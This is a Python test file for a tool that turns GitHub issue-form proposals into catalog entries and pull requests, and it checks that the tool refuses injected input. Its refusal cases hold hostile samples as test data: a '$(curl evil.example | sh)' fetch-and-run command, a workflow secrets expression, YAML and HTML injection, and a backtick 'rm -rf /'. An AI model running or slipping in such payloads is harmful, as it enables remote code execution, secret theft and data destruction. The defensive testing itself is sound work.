"""Proposing through a GitHub issue form: the shipped form is the one made from `new`'s questions, and
a submitted form's body, as GitHub renders it (`### Label`, a blank line, the answer or
`_No response_`), becomes an entry, a pushed branch, a pull request and a comment on a loopback GitHub;
a body crafted to inject shell, YAML or Markdown gets a located refusal and nothing is committed."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from martechgate.check.organisation import parse_organization
from martechgate.intake import issue_form, proposal
from tests.conftest import ROOT, TODAY, GovRepo
from tests.github_server import FakeGitHub, FakeIssues, serve

REPOSITORY = "acme/governance"
ISSUE = 42
ANSWERS = {
    "name": "Pitch Deck Studio",
    "vendor": "Deckworks Ltd",
    "website": "deckworks.example.com",
    "country": "GB",
    "purpose": "Sales decks for field marketing,\nwith the brand templates.",
    "category": "design",
    "capabilities": "slides, templates",
    "business-owner": "jane.doe@example.com",
    "technical-owner": "raj.patel@example.com",
    "classification": "internal",
    "data": "none",
    "residency": "GB",
    "sso": "saml",
    "mfa": "enforced",
    "scim": "yes",
    "annual-cost": "2400",
    "currency": "EUR",
    "seats": "10",
    "payment": "invoice",
    "renewal": "2027-09-01",
    "auto-renew": "no",
}


def body(answers: dict[str, str], extra: str = "") -> str:
    """An issue body as GitHub renders a submitted issue form: every field, in order."""
    sections = [f"### {q.text}\n\n{answers.get(q.flag) or '_No response_'}" for q in proposal.QUESTIONS]
    return "\n\n".join(sections) + "\n" + extra


@pytest.mark.parametrize(
    ("shipped", "organisation"),
    [
        (ROOT / ".github" / "ISSUE_TEMPLATE" / "propose-a-tool.yml", ROOT / "martechgate.yaml"),
        (
            ROOT / "src/martechgate/templates/init/github/ISSUE_TEMPLATE/propose-a-tool.yml",
            ROOT / "src/martechgate/templates/init/martechgate.yaml",
        ),
    ],
)
def test_the_shipped_form_is_the_one_made_from_the_questions(shipped: Path, organisation: Path) -> None:
    generated = issue_form.form_template(parse_organization(organisation.read_bytes()))
    assert shipped.read_text(encoding="utf-8") == generated
    form = yaml.safe_load(generated)
    fields = [f for f in form["body"] if f["type"] != "markdown"]
    assert {f["type"] for f in fields} <= {"input", "textarea", "dropdown"}
    assert [f["id"] for f in fields] == [q.flag for q in proposal.QUESTIONS]
    assert [f["attributes"]["label"] for f in fields] == [q.text for q in proposal.QUESTIONS]
    assert form["labels"] == [issue_form.LABEL]


def test_init_ships_the_form_and_the_workflows(run_cli: Any, tmp_path: Path) -> None:
    result = run_cli("init", str(tmp_path / "gov"))
    assert result.returncode == 0, result.stderr
    for name in (
        ".github/ISSUE_TEMPLATE/propose-a-tool.yml",
        ".github/workflows/martechgate-propose.yml",
        ".github/workflows/martechgate-due.yml",
    ):
        assert (tmp_path / "gov" / name).is_file(), name


def test_the_workflow_never_expands_the_body_and_asks_only_what_it_needs() -> None:
    for path in (
        ROOT / ".github/workflows/propose.yml",
        ROOT / "src/martechgate/templates/init/github/workflows/martechgate-propose.yml",
    ):
        text = path.read_text(encoding="utf-8")
        assert "github.event.issue.body" not in text and "github.event.issue.title" not in text
        workflow = yaml.safe_load(text)
        assert workflow["permissions"] == {}
        (job,) = workflow["jobs"].values()
        assert job["permissions"] == {"contents": "write", "pull-requests": "write", "issues": "write"}
        runs = " ".join(step.get("run", "") for step in job["steps"])
        assert "${{" not in runs  # nothing from the event is expanded into a script


def test_a_documented_body_becomes_the_entry(run_cli: Any, gov: GovRepo, tmp_path: Path) -> None:
    source = tmp_path / "issue.md"
    source.write_text(body(ANSWERS), encoding="utf-8")
    result = run_cli("new", str(gov.path), "--from-issue", str(source), "--today", TODAY.isoformat())
    assert result.returncode == 0, result.stderr
    written = gov.path / "catalog" / "pitch-deck-studio.yaml"
    entry = yaml.safe_load(written.read_text())
    assert entry["purpose"] == "Sales decks for field marketing, with the brand templates."
    assert entry["vendor"] == {"name": "Deckworks Ltd", "website": "https://deckworks.example.com", "country": "GB"}
    assert entry["status"] == "proposed" and entry["data"]["categories"] == ["none"]
    check = run_cli("check", str(gov.path), "--today", TODAY.isoformat(), "--no-cache")
    assert check.returncode == 0, check.stdout
    again = run_cli(
        "new", str(gov.path), "--from-issue", "-", "--dry-run",
        input_text=body({**ANSWERS, "name": "Deck Two", "vendor": "Deck Two Inc"}),
    )  # fmt: skip
    assert again.returncode == 0, again.stderr
    assert "id: deck-two" in again.stdout


@pytest.fixture
def github() -> Iterator[FakeGitHub]:
    yield from serve()


def _clone_with_origin(gov: GovRepo, tmp_path: Path) -> Path:
    gov.add_entry("existing-tool")  # git keeps no empty folder: the clone needs a catalog/ with a file
    gov.commit("Add a tool")
    origin = tmp_path / "origin.git"
    subprocess.run(["git", "clone", "-q", "--bare", str(gov.path), str(origin)], check=True)
    work = tmp_path / "work"
    subprocess.run(["git", "clone", "-q", str(origin), str(work)], check=True)
    return work


def _event(tmp_path: Path) -> Path:
    event = {
        "action": "opened",
        "issue": {"number": ISSUE, "title": "Propose: Pitch Deck Studio", "user": {"login": "mia-marketing"}},
        "repository": {"full_name": REPOSITORY, "default_branch": "main"},
    }
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event), encoding="utf-8")
    return path


def _env(github: FakeGitHub, tmp_path: Path) -> dict[str, str]:
    return {
        "GITHUB_REPOSITORY": REPOSITORY,
        "GITHUB_TOKEN": "ghs_issueTOKEN",
        "GITHUB_API_URL": github.url,
        "GITHUB_EVENT_PATH": str(_event(tmp_path)),
    }


def test_round_trip_issue_to_pull_request(run_cli: Any, gov: GovRepo, github: FakeGitHub, tmp_path: Path) -> None:
    issues = FakeIssues(github, REPOSITORY)
    issues.seed(ISSUE, "Propose: Pitch Deck Studio", "(the form's answers)", (issue_form.LABEL,))
    work = _clone_with_origin(gov, tmp_path)
    source = tmp_path / "issue.md"
    answers = {**ANSWERS, "data": "contact-pii", "classification": "confidential", "eu-subjects": "no"}
    source.write_text(body(answers), encoding="utf-8")
    result = run_cli(
        "new", str(work), "--from-issue", str(source), "--github", "--today", TODAY.isoformat(),
        env=_env(github, tmp_path),
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert f"opened pull request #{ISSUE + 1} for issue #{ISSUE}" in result.stdout
    (pull,) = issues.pulls
    assert pull["head"] == "propose/pitch-deck-studio" and pull["base"] == "main"
    assert f"Closes #{ISSUE}" in pull["body"] and "@mia-marketing" in pull["body"]
    assert "Risk tier: **high**" in pull["body"]
    (comment,) = issues.comments[ISSUE]
    assert "https://github.example" in comment and "catalog/pitch-deck-studio.yaml" in comment
    assert "It will need approval from" in comment and "security" in comment and "privacy" in comment
    assert "must fix" in comment  # contact-pii without a DPA: the findings, before anyone reviews
    log = subprocess.run(
        ["git", "log", "-1", "--format=%an <%ae>|%cn|%s", "propose/pitch-deck-studio"],
        cwd=tmp_path / "origin.git", capture_output=True, text=True, check=True,
    ).stdout.strip()  # fmt: skip
    assert (
        log
        == f"mia-marketing <mia-marketing@users.noreply.github.com>|martechgate|Propose Pitch Deck Studio (#{ISSUE})"
    )
    shown = subprocess.run(
        ["git", "show", "propose/pitch-deck-studio:catalog/pitch-deck-studio.yaml"],
        cwd=tmp_path / "origin.git", capture_output=True, text=True, check=True,
    ).stdout  # fmt: skip
    assert "status: proposed" in shown


@pytest.mark.parametrize(
    ("answers", "extra", "expected"),
    [
        ({**ANSWERS, "name": "Deck $(curl evil.example | sh)"}, "", "shell or workflow expression syntax"),
        ({**ANSWERS, "name": "Deck ${{ secrets.GITHUB_TOKEN }}"}, "", "shell or workflow expression syntax"),
        ({**ANSWERS, "name": "Deck\nstatus: approved"}, "", "must be one line"),
        ({**ANSWERS, "purpose": "Decks <img src=x onerror=alert(1)>"}, "", "holds HTML"),
        ({**ANSWERS, "purpose": "Decks `rm -rf /`"}, "", "a backtick"),
        (ANSWERS, "\n### status\n\napproved\n", "'status' is not a question of the form"),
        ({**ANSWERS, "vendor": "Deck\u202eltd"}, "", "direction-changing"),
    ],
)
def test_a_crafted_body_gets_a_located_refusal_and_nothing_is_committed(
    run_cli: Any, gov: GovRepo, github: FakeGitHub, tmp_path: Path, answers: dict[str, str], extra: str, expected: str
) -> None:
    issues = FakeIssues(github, REPOSITORY)
    issues.seed(ISSUE, "Propose: Pitch Deck Studio", "(the form's answers)", (issue_form.LABEL,))
    work = _clone_with_origin(gov, tmp_path)
    text = body(answers, extra)
    source = tmp_path / "issue.md"
    source.write_text(text, encoding="utf-8")
    result = run_cli("new", str(work), "--from-issue", str(source), "--github", env=_env(github, tmp_path))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert expected in result.stderr
    (comment,) = issues.comments[ISSUE]
    assert "nothing was committed" in comment and "line " in comment
    line = int(comment.split("line ", 1)[1].split("&#58;")[0].split(":")[0])
    bad = text.split("\n")[line - 1]
    assert any(part in bad for part in ("$(", "${{", "status", "<img", "`", "\u202e")), (line, bad)
    assert "<img" not in comment and "$(curl" not in comment  # quoted back escaped, never as markup
    assert issues.pulls == []
    assert [p.name for p in (work / "catalog").glob("*.yaml")] == ["existing-tool.yaml"]
    branches = subprocess.run(
        ["git", "branch", "--list", "propose/*"], cwd=tmp_path / "origin.git", capture_output=True, text=True
    ).stdout
    assert branches == ""


def test_answers_that_new_refuses_are_listed_on_the_issue(
    run_cli: Any, gov: GovRepo, github: FakeGitHub, tmp_path: Path
) -> None:
    issues = FakeIssues(github, REPOSITORY)
    issues.seed(ISSUE, "Propose: Pitch Deck Studio", "(the form's answers)", (issue_form.LABEL,))
    work = _clone_with_origin(gov, tmp_path)
    source = tmp_path / "issue.md"
    source.write_text(body({**ANSWERS, "business-owner": "jane", "technical-owner": "jane"}), encoding="utf-8")
    result = run_cli("new", str(work), "--from-issue", str(source), "--github", env=_env(github, tmp_path))
    assert result.returncode == 2
    (comment,) = issues.comments[ISSUE]
    assert "is not an email address" in comment and issues.pulls == []
